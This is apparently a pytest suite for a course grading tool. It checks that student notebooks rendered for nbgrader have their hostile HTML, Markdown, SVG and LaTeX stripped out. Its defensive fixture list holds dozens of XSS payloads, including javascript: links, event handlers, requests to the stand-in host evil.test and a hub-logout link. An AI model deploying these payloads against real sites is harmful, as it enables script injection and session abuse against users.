"""What nbgrader shows afterwards: the verdicts, the student's work, and nothing of it that acts."""

from __future__ import annotations

import base64
import io
import json

import nbformat
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from nbconvert.exporters import HTMLExporter
from nbgrader.nbgraderformat import MetadataValidator

from adcourse.grading.marking.autograded import autograded
from adcourse.grading.marking.clean import as_typed, clean_html, clean_markdown, image
from adcourse.grading.marking.handed import read
from adcourse.grading.marking.rebuild import rebuild
from adcourse.grading.marking.report import Verdict
from adcourse.grading.marking.runner import CellRun, Question, Ran
from tests.grading.marking.handins import as_bytes, cell, code, frame, solved, untouched
from tests.grading.marking.test_intake import EDITS, SOLVED, mutated

STOLEN = "window.stolen=1"
# Each tries to run the script above, to make a request, or to get at the page around it.
VECTORS = [
    f"<script>{STOLEN}</script>",
    f"<ScRiPt >{STOLEN}</sCrIpT>",
    f"<scr<script>ipt>{STOLEN}</scr</script>ipt>",
    "<script src=https://evil.test/a.js></script>",
    f"<img src=x onerror={STOLEN}>",
    f"<img src=x:x onerror='{STOLEN}'//",
    f"<img/src/onerror={STOLEN}>",
    f'<img """><script>{STOLEN}</script>">',
    "<img src=https://evil.test/pixel.png>",
    "<img srcset='https://evil.test/pixel.png 1x' src=data:,>",
    f"<svg onload={STOLEN}>",
    f"<svg><script>{STOLEN}</script></svg>",
    f"<svg><animate onbegin={STOLEN} attributeName=x dur=1s>",
    f"<svg><a xlink:href='javascript:{STOLEN}'><text y=20>x</text></a></svg>",
    "<svg><image href=https://evil.test/a.png /><use href=https://evil.test/a.svg#x /></svg>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={STOLEN}>",
    f"<math href='javascript:{STOLEN}'>x</math>",
    f"<body onload={STOLEN}>",
    f"<iframe src='javascript:{STOLEN}'></iframe>",
    f'<iframe srcdoc="<script>parent.{STOLEN}</script>"></iframe>',
    "<iframe src=https://evil.test></iframe>",
    "<object data=https://evil.test/a.swf></object><embed src=https://evil.test/a>",
    f"<details open ontoggle={STOLEN}><summary>x</summary></details>",
    f"<input autofocus onfocus={STOLEN}>",
    f"<select autofocus onfocus={STOLEN}></select><textarea autofocus onfocus={STOLEN}></textarea>",
    f"<video><source onerror={STOLEN}></video><audio src=x onerror={STOLEN}>",
    "<video src=https://evil.test/a.mp4 poster=https://evil.test/p.png autoplay></video>",
    f"<marquee onstart={STOLEN}>x</marquee>",
    f"<style onload={STOLEN}></style>",
    "<style>@import url(https://evil.test/a.css); body{display:none}</style>",
    "<link rel=stylesheet href=https://evil.test/a.css><link rel=preload as=image href=https://evil.test/b.png>",
    "<base href=https://evil.test/>",
    "<meta http-equiv=refresh content='0;url=https://evil.test/'>",
    f"<meta http-equiv=refresh content='0;url=javascript:{STOLEN}'>",
    "<form action=https://evil.test id=f><button form=f>Submit</button></form>",
    "<input class='score tabbable' id='p6-1-test' value=99>",
    "<div style='position:fixed;inset:0;background:url(https://evil.test/a.png);z-index:9999'>cover</div>",
    f"<div id=x tabindex=1 onfocus={STOLEN} style=display:block autofocus>x</div>",
    f"<a href='javascript:{STOLEN}' class=bait>click</a>",
    f"<a href='java&#10;script:{STOLEN}' class=bait>click</a>",
    f"<a href='&#106;avascript:{STOLEN}'>click</a>",
    f"<a href='data:text/html,<script>{STOLEN}</script>'>click</a>",
    "<a href='https://evil.test/' ping='https://evil.test/ping' target=_top>click</a>",
    "<a href='../../../hub/logout'>click</a><img src='/hub/logout'>",
    f"[click](javascript:{STOLEN})",
    f"[click](<java\tscript:{STOLEN}>)",
    f"[click]( JaVaScRiPt:{STOLEN})",
    f"[click][1]\n\n[1]: javascript:{STOLEN}",
    f"<javascript:{STOLEN}>",
    "![x](https://evil.test/pixel.png)",
    "![x][i]\n\n[i]: https://evil.test/pixel.png",
    "![x](/hub/logout)",
    f'![x](x" onerror="{STOLEN})',
    f'[x](https://a.test "title" onmouseover="{STOLEN})',
    "![x](attachment:evil.svg)",
    "![x](attachment:missing.png)",
    f"```mermaid\n</pre><script>{STOLEN}</script>\n```",
    f"```html\n<script>{STOLEN}</script>\n```",
    f"```</code></pre><script>{STOLEN}</script>\nx\n```",
    f"    <script>{STOLEN}</script>",
    f"`</code><script>{STOLEN}</script>`",
    f"$</span><script>{STOLEN}</script>$",
    f"$$\\href{{javascript:{STOLEN}}}{{x}}$$",
    f"$\\def\\x{{\\href{{javascript:{STOLEN}}}{{y}}}}\\x$ $\\require{{html}}\\style{{position:fixed}}{{x}}$",
    f"\\begin{{x}}</p><script>{STOLEN}</script>\\end{{x}}",
    f"<noscript><p title='</noscript><img src=x onerror={STOLEN}>'>",
    f"<template><script>{STOLEN}</script></template><plaintext>",
    f"<title><a title='</title><img src=x onerror={STOLEN}>'>",
    f"<!--><img src=x onerror={STOLEN}>-->",
    f"<![CDATA[><img src=x onerror={STOLEN}>]]>",
    f"<?xml ?><img src=x onerror={STOLEN}>",
    f"<a\n\nhref='javascript:{STOLEN}'>x</a>",
    f"&lt;script&gt;{STOLEN}&lt;/script&gt; &#60;img src=x onerror={STOLEN}&#62;",
    f"<div>\n\n<div\n\n><img src=x\n\nonerror={STOLEN}>",
    f"| a |\n|---|\n| <img src=x onerror={STOLEN}> |",
    f"# <img src=x onerror={STOLEN}>",
    f"- [ ] <b onmouseover={STOLEN}>x</b>",
    "<isindex action=javascript:1 type=image><keygen autofocus>",
    "<dialog open style='width:100vw;height:100vh'>x</dialog>",
    "<span data-toggle=tooltip data-html=true title='<img src=x onerror=window.stolen=1>' class=name-hidden>x</span>",
    "<div class='help cell' id=statusmessage name=submission_id>x</div>",
]  # fmt: skip
ANSI = "\x1b]8;;javascript:window.stolen=1\x07x\x1b]8;;\x07 \x1b[31m<script>window.stolen=1</script>"


def png(width=3, height=2) -> str:
    from PIL import Image

    buffer = io.BytesIO()
    Image.new("RGB", (width, height)).save(buffer, "PNG")
    return base64.b64encode(buffer.getvalue()).decode()


def evil_notebook() -> dict:
    """Every vector in every place where a student can write."""
    notebook = solved()
    for vector in VECTORS:
        new = {"cell_type": "markdown", "metadata": {"tags": [vector]}, "source": vector}
        new["attachments"] = {"evil.svg": {"image/svg+xml": vector, "image/png": vector, "text/html": vector}}
        notebook["cells"] += [new, {"cell_type": "raw", "metadata": {"raw_mimetype": "text/html"}, "source": vector}]
        output = {"output_type": "display_data", "metadata": {}, "data": {"text/html": vector}}
        notebook["cells"].append(code(vector, outputs=[output], metadata={"alt": vector}))
    cell(notebook, "p6-1-text")["source"] = "\n\n".join(VECTORS)
    cell(notebook, "p6-1-solution")["source"] += [f"\n# {vector}" for vector in VECTORS]
    cell(notebook, "p6-1-test")["source"] = VECTORS[0]
    notebook["metadata"] = {
        "kernelspec": {"name": VECTORS[0]},
        "language_info": {"name": VECTORS[0]},
        "title": VECTORS[0],
    }
    notebook["metadata"]["widgets"] = {"application/vnd.jupyter.widget-state+json": {"state": {"x": VECTORS[0]}}}
    return notebook


def made(content: bytes, verdicts=(), run=None) -> dict:
    rebuilt = rebuild(frame(), read(content).cells, lambda ask, place: Question(ask.problem, ask.name, b""))
    ran = Ran({s.key: run for s in rebuilt.steps if s.source is not None}, {}, (), 0.0) if run else None
    return autograded(frame(), rebuilt, ran, verdicts)


def assert_valid(notebook: dict):
    node = nbformat.reads(json.dumps(notebook), as_version=4)
    nbformat.validate(node, relax_add_props=False)
    MetadataValidator().validate_nb(node)
    return node


VERDICTS = [
    Verdict(
        ask.problem, f"Title {VECTORS[0]}", 2, k % 3, f"message {VECTORS[4]} $x$", f"hint {VECTORS[0]}", (), test.key
    )
    for k, (ask, test) in enumerate(zip(frame().asks, frame().tests, strict=True))
]
SAID = CellRun(
    "error",
    [
        {"output_type": "stream", "name": "stdout", "text": ANSI},
        {"output_type": "stream", "name": "<script>", "text": VECTORS[4]},
        {"output_type": "error", "ename": VECTORS[0], "evalue": VECTORS[4], "traceback": [*VECTORS, ANSI]},
        {"output_type": "display_data", "metadata": {"image/png": {"width": VECTORS[0]}}, "data": {"image/png": png()}},
        {"output_type": "display_data", "metadata": {}, "data": {"image/png": f'x" onerror="{STOLEN}'}},
        {"output_type": "execute_result", "metadata": {}, "data": {"text/html": VECTORS[0], "text/plain": VECTORS[0]}},
        {"output_type": "display_data", "metadata": {}, "data": {"image/svg+xml": VECTORS[10], "text/markdown": ANSI}},
        {"output_type": "display_data", "metadata": {}, "data": {"application/javascript": STOLEN}},
        {"output_type": "update_display_data", "data": {"text/html": VECTORS[0]}},
    ],
    f"said {VECTORS[0]}",
)  # fmt: skip


# --- as nbgrader wants it ---------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "notebook", [solved(), untouched(), {"cells": []}, evil_notebook()], ids="solved stub none evil".split()
)
def test_it_is_a_notebook_that_nbgrader_reads(notebook):
    node = assert_valid(made(as_bytes(notebook), VERDICTS, SAID))
    found = {c.metadata.nbgrader.grade_id: c for c in node.cells if "nbgrader" in c.metadata}
    for released in frame().cells:
        if released.graded or released.locked or released.role == "answer":
            assert found[released.key].metadata == released.metadata
    for test, verdict in zip(frame().tests, VERDICTS, strict=True):
        shown = found[test.key]
        assert shown.source == test.source  # what was released: no hidden test, nothing typed into it
        assert verdict.message in shown.outputs[-1].data["text/plain"]
        assert (
            "<script>" not in shown.outputs[-1].data["text/html"]
            and "&lt;script&gt;" in shown.outputs[-1].data["text/html"]
        )
    assert node.metadata == frame().metadata
    assert node == assert_valid(made(as_bytes(notebook), VERDICTS, SAID))  # the same again


def test_what_was_written_and_said_is_there():
    notebook = solved()
    notebook["cells"].append({"cell_type": "markdown", "metadata": {}, "source": "## Why\n\n*Because* $a<b$, see `x`."})
    made_of = made(
        as_bytes(notebook), VERDICTS, CellRun("ok", [{"output_type": "stream", "name": "stdout", "text": "4\n"}])
    )
    for given_cell, shown in zip(notebook["cells"][:-1], made_of["cells"], strict=False):
        assert shown["source"] == "".join(given_cell["source"]) and shown["id"] == given_cell["id"]
        if shown["cell_type"] == "code" and not shown["id"].endswith("-test"):
            assert shown["outputs"] == [{"output_type": "stream", "name": "stdout", "text": "4\n"}]
    text = made_of["cells"][-1]["source"]
    assert "<h2>Why</h2>" in text and "<em>Because</em> $a&lt;b$" in text and "<code>x</code>" in text


def test_outputs_are_text_and_images_alone():
    for shown in made(SOLVED, (), SAID)["cells"]:
        if shown["cell_type"] == "code" and not shown["id"].endswith("-test"):
            kinds = {kind for output in shown["outputs"] for kind in output.get("data", ())}
            assert kinds == {"image/png", "text/plain"}
            assert [o["output_type"] for o in shown["outputs"]] == [
                *["stream"] * 2, "error", "display_data", "display_data", "stream",
            ]  # fmt: skip


def test_sizes_are_bounded():
    notebook = solved()
    notebook["cells"] += [
        code("x" * 900_000),
        {"cell_type": "markdown", "metadata": {}, "source": "<b>y " * 100_000},
    ] * 5
    flood = CellRun("ok", [{"output_type": "stream", "name": "stdout", "text": "z" * 10**6}] * 300)
    assert len(json.dumps(made(as_bytes(notebook), (), flood))) < 8_000_000


@given(EDITS)
@settings(max_examples=40)
def test_whatever_was_handed_in(edits):
    assert_valid(made(mutated(SOLVED, edits), VERDICTS, SAID))


# --- Markdown and images ----------------------------------------------------------------------------------------------

MARKDOWN = st.lists(
    st.sampled_from(
        [*VECTORS, "$", "$$", "`", "```\n", "\n\n", "<", ">", "[", "](", ")", "*", "_", "&", "\\", "<div>", "|-|\n"]
    )
    | st.text(max_size=5),
    max_size=6,
).map("".join)


@given(MARKDOWN)
@settings(max_examples=150)
def test_what_is_clean_stays_so_when_it_is_rendered(source):
    """nbgrader renders it as Markdown once more; that leaves it as it is."""
    html = clean_markdown(source)
    assert "\n" not in html
    assert HTMLExporter().markdown2html({"cell": {}, "resources": {}}, html).rstrip("\n") == html


def test_slow_markdown_is_shown_as_typed():
    for source in ("\\\\[" * 6000, "[" * 20_000, "<div>" * 3000, "> " * 9000, "x" * 30_000, "\\begin{a}" * 2000):
        html = clean_markdown(source)
        assert html == as_typed(source) or len(html) < 300_000


def test_images():
    assert image(png()) == "png" and image(png(4001, 1)) == ""
    for text in (
        "",
        "x",
        "AAAA",
        png()[:40],
        base64.b64encode(b"GIF89a").decode(),
        base64.b64encode(b"<svg/>").decode(),
    ):
        assert image(text) == ""
    data = f"data:image/png;base64,{png()}"
    assert data in clean_markdown("![a plot](attachment:p.png)", {"p.png": {"image/png": png()}})
    assert f'<img src="{data}" alt="x">' in clean_html(f'<img src="{data}" alt="x" class="y">')
    assert "src" not in clean_html(f'<img src="{data.replace("png", "gif")}">')
